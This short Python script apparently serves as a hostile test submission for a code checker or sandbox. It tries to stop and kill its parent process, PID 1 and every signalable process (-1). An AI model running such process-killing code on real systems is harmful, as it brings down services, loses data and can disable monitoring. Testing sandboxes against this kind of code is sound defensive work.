"""Ends everybody it can: the checker is not among them."""
import os
import signal

for victim in [os.getppid(), 1, -1]:
    for number in [signal.SIGSTOP, signal.SIGKILL]:
        try:
            os.kill(victim, number)
        except OSError:
            pass
